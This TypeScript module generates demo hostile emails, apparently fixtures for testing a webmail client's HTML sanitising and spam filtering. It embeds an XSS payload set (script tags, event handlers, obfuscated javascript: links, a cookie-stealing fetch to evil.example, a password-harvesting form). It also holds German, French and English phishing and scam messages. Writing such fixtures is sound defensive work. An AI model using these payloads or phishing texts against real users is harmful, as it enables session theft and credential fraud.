import { ago, mailDate } from './clock.ts'
import { handmadeLetter } from './handmade.ts'
import { type Letter, messageId } from './letter.ts'
import type { Header } from './mime/header.ts'
import { textPart } from './mime/part.ts'
import { type DemoUser, type Person, person } from './people.ts'

type HostileMail = {
  key: string
  user: DemoUser
  folder: string
  age: string
  from: Person
  subject: string
  html: string
}

const scriptHtml = `<html><head><style>@import url(https://evil.example/x.css); p { width: expression(alert(1)) }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="alert('load')" background="https://evil.example/bg.png">
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<p style="background:url(javascript:alert(2))">Bonjour, votre <b>bon d'achat</b> vous attend.</p>
<img src="x" onerror="alert('error')"><svg onload="alert(3)"><animate onbegin="alert(4)" attributeName="x"/></svg>
<a href="javascript:alert('link')">Le récupérer</a> <a href="&#106;ava&#x09;script:alert(5)">ou ici</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">ou là</a>
<form action="https://evil.example/steal"><input name="password" type="password"><button>OK</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Cliquez n'importe où</div>
<p>Ce paragraphe est inoffensif et doit rester lisible.</p>
</body></html>
`

const phishingHtml = `<html><body style="font-family:Arial">
<p>Sehr geehrter Kunde,</p>
<p>Ihr Postfach <b>alice@ulti.example</b> ist zu <span style="color:red">99 %</span> voll und wird heute gelöscht!</p>
<p><a href="https://ulti-example.login.attacker.example/?u=alice">https://mail.ulti.example/quota</a></p>
<p>Mit freundliche Grüßen<br>Ihr Ulti Support-Team</p>
</body></html>
`

const prizeHtml = `<html><body><center><font size="6" color="#cc0000">FELICITATIONS !!!</font><br>
Vous êtes le 1&nbsp;000&nbsp;000e visiteur. <a href="https://gros-lot.example/r?id=88">Réclamez votre aspirateur</a>.
<div style="color:#ffffff;font-size:1px">recette tarte pommes météo réunion facture bonjour cordialement</div>
</center></body></html>
`

const parcelHtml = `<html><body><p>Your parcel could not be delivered. Pay the fee of EUR 1.99:</p>
<p><a href="http://192.0.2.66/parcel/track.php">Track my parcel</a></p></body></html>
`

const hostileMails: readonly HostileMail[] = [
  {
    key: 'xss',
    user: 'alice',
    folder: 'INBOX',
    age: '2d 03:33',
    from: person("Bons d'achat <b>gratuits</b>", 'promo@evil.example'),
    subject: 'Votre bon <script>alert("sujet")</script> vous attend',
    html: scriptHtml,
  },
  {
    key: 'phishing',
    user: 'alice',
    folder: 'Junk',
    age: '1d 02:14',
    from: person('Ulti Support', 'support@ulti.example', 'Asia/Tokyo'),
    subject: 'DRINGEND: Ihr Postfach wird heute gelöscht',
    html: phishingHtml,
  },
  {
    key: 'prize',
    user: 'alice',
    folder: 'Junk',
    age: '4d 04:40',
    from: person('★ GROS LOT ★', 'winner@gros-lot.example'),
    subject: '🎁🎁 Vous avez gagné un aspirateur !!!',
    html: prizeHtml,
  },
  {
    key: 'parcel',
    user: 'bob',
    folder: 'Junk',
    age: '3d 05:05',
    from: person('Parcel Service', 'no-reply@parcel-fee.example', 'UTC'),
    subject: 'Parcel 48813 waits for you',
    html: parcelHtml,
  },
  {
    key: 'parcel carol',
    user: 'carol',
    folder: 'Junk',
    age: '3d 05:06',
    from: person('Parcel Service', 'no-reply@parcel-fee.example', 'UTC'),
    subject: 'Parcel 48814 waits for you',
    html: parcelHtml,
  },
]

/** Mail that means harm: active content in HTML, a forged sender that failed DMARC, plain spam. */
export function writeHostileMails(now: Date): Letter[] {
  return hostileMails.map((hostile) => writeHostile(hostile, now))
}

function writeHostile({ key, user, folder, age, from, subject, html }: HostileMail, now: Date): Letter {
  const sentAt = ago(now, age)
  const isFiltered = folder === 'Junk'
  const { headers: contentHeaders, body } = textPart(html, { subtype: 'html', encoding: 'base64', charset: 'utf-8' })
  const id = messageId(key, from)
  const word = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
  const headers: Header[] = [
    ['Date', mailDate(sentAt, from.timeZone)],
    ['From', `${word(from.name)} <${from.address}>`],
    ['Reply-To', 'collect@attacker.example'],
    ['To', `${user}@ulti.example`],
    ['Subject', word(subject)],
    ['Message-ID', `<${id}>`],
    ...(isFiltered ? ([['X-Spam-Status', 'Yes, score=14.2 required=5.0']] as const) : []),
    ['MIME-Version', '1.0'],
    ...contentHeaders,
  ]
  const mail = { id, sentAt, from, subject, headers, body, verdict: isFiltered ? ('fail' as const) : ('pass' as const) }
  return handmadeLetter(mail, { user, folder, flags: [] })
}
